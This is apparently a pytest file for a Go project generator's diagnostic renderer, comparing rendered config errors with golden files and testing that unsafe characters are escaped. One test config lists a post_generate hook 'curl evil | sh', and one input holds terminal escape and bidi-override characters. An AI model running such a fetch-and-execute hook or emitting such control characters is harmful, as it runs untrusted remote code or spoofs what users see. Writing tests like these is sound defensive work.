"""Rendered findings, each beside a golden file that shows what a person sees.

`GOLDEN=write pytest tests/diagnostics` writes the golden files anew.
"""

import os
from pathlib import Path

import pytest

from gpsgen.config import load_config
from gpsgen.diagnostics import (
    Diagnostic,
    Diagnostics,
    Label,
    Source,
    Span,
    codes,
    format_path,
    render,
)
from gpsgen.diagnostics.text import quote_all, safe, width
from tests.config.projects import project, write_project

GOLDEN = Path(__file__).parent / "golden"


def at(source: Source, token: str, **more: object) -> Diagnostic:
    """A finding at the only place in a source where a token stands."""
    start = source.text.index(token)
    span = source.span(start, start + len(token))
    fields = {"code": codes.WRONG_TYPE, "message": "this is wrong", "span": span, **more}
    return Diagnostic(**fields)  # type: ignore[arg-type]


def reference() -> str:
    return project(
        "applications:\n  - name: api\n    transport:\n      - api\n      - name: syss\n"
        "    worker: [ticker]\n"
    )


def compare(name: str, text: str) -> None:
    path = GOLDEN / f"{name}.txt"
    if os.environ.get("GOLDEN") == "write":
        path.write_text(text, encoding="utf-8")
    assert path.read_text(encoding="utf-8") == text


CONFIGS = {
    "reference": reference(),
    "several": project(
        "main: {name: shop, logger: zerlog}\ntools: {golang_version: 1.20}\n"
        "scheduler: {}\npost_generate: [go_mod_tidy, 'curl evil | sh']\n"
    ),
    "duplicate": project(
        "applications:\n  - name: api\n    transport: [api, sys]\n\n\n\n\n\n"
        "  - name: api\n    worker: [ticker]\n"
    ),
    "syntax": "main:\n  name: shop\n logger: slog\n",
}


@pytest.mark.parametrize("name", CONFIGS)
def test_configs(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write_project(tmp_path, CONFIGS[name])
    monkeypatch.chdir(tmp_path)
    loaded = load_config(Path("project.yaml"))
    compare(name, render(loaded.diagnostics, loaded.sources, color=False))


TEXTS = {
    "tabs": ("a:\t{b:\tTOKEN\t}", "TOKEN"),
    "wide": ("名前: 値 # コメント", "値"),
    "combining": ("na\u0308me: TOKEN", "TOKEN"),
    "hostile": ('a: "\x1b]0;x\x07 \u202etxet\u2069" TOKEN', "TOKEN"),
    "crlf": ("a: 1\r\nb: TOKEN\r\n", "TOKEN"),
    "long": ("a: " + "x" * 300 + " TOKEN " + "y" * 300, "TOKEN"),
    "long_token": ("a: " + "x" * 300, "x" * 300),
    "several_lines": ("a: |\n  first\n  second\nb: 1\n", "|\n  first\n  second"),
    "end_of_file": ("a: 1\n", ""),
}


def test_texts() -> None:
    blocks = []
    for name, (text, token) in TEXTS.items():
        source = Source(name, text)
        found = Diagnostics([at(source, token, label="here")])
        blocks.append(render(found, {name: source}, color=False, width=60))
    compare("texts", "\n".join(blocks))


def test_labels_in_two_files() -> None:
    config, spec = Source("project.yaml", "a: b\nc: d\n"), Source("api.yml", "x: y\n")
    finding = at(
        config,
        "d",
        path=("c",),
        labels=(
            Label(spec.span(3, 4), "the spec says this"),
            Label(config.span(0, 1), "over here"),
            Label(config.span(5, 6), "under this key"),
        ),
        help="make them equal",
        notes=("one note", "another"),
    )
    sources = {"project.yaml": config, "api.yml": spec}
    compare("labels", render(Diagnostics([finding]), sources, color=False))


def test_color_adds_escape_sequences_and_nothing_else(tmp_path: Path) -> None:
    loaded = load_config(write_project(tmp_path, reference()))
    colored = render(loaded.diagnostics, loaded.sources, color=True)
    assert "\033[1;31merror[GPS1301]\033[0m" in colored
    plain = colored
    for style in ("1;31", "1;33", "1;34", "1;36", "1;32", "1", "0"):
        plain = plain.replace(f"\033[{style}m", "")
    assert plain == render(loaded.diagnostics, loaded.sources, color=False)


@pytest.mark.parametrize("columns", [1, 20, 40, 80])
def test_no_code_line_is_wider_than_the_terminal(columns: int) -> None:
    for name, (text, token) in TEXTS.items():
        source = Source(name, text)
        found = Diagnostics([at(source, token)])
        for line in render(found, {name: source}, color=False, width=columns).splitlines():
            if line[:1].isdigit() and "|" in line:
                assert width(line) <= max(columns, 24)


def test_no_findings_render_as_nothing() -> None:
    assert render(Diagnostics(), {}, color=True) == ""


def test_findings_without_a_source_keep_their_place() -> None:
    finding = Diagnostic(
        code=codes.FILE_UNREADABLE, message="gone", span=Span("x\x1b.yaml", 1, 1, 1, 1)
    )
    text = render(Diagnostics([finding]), {}, color=False)
    assert text == "error[GPS1001]: gone\n --> x\\u{1b}.yaml:1:1\n\nx\\u{1b}.yaml: 1 error\n"


def test_findings_are_sorted_and_kept_once() -> None:
    source = Source("f", "a\nb\n")
    first, second = at(source, "a"), at(source, "b")
    assert list(Diagnostics([second, first, second])) == [first, second]


def test_paths_read_as_people_write_them() -> None:
    assert format_path(("applications", 0, "transport", 1)) == "applications[0].transport[1]"
    assert format_path(()) == ""


def test_unsafe_text_is_escaped() -> None:
    assert safe("a\x1b[31m\u202e\u200b\n") == "a\\u{1b}[31m\\u{202e}\\u{200b}\\u{a}"
    assert safe("日本 é") == "日本 é"


def test_long_lists_are_cut_short() -> None:
    assert quote_all(["a", "b"]) == "`a`, `b`"
    assert quote_all("abc", limit=2) == "`a`, `b` and 1 more"
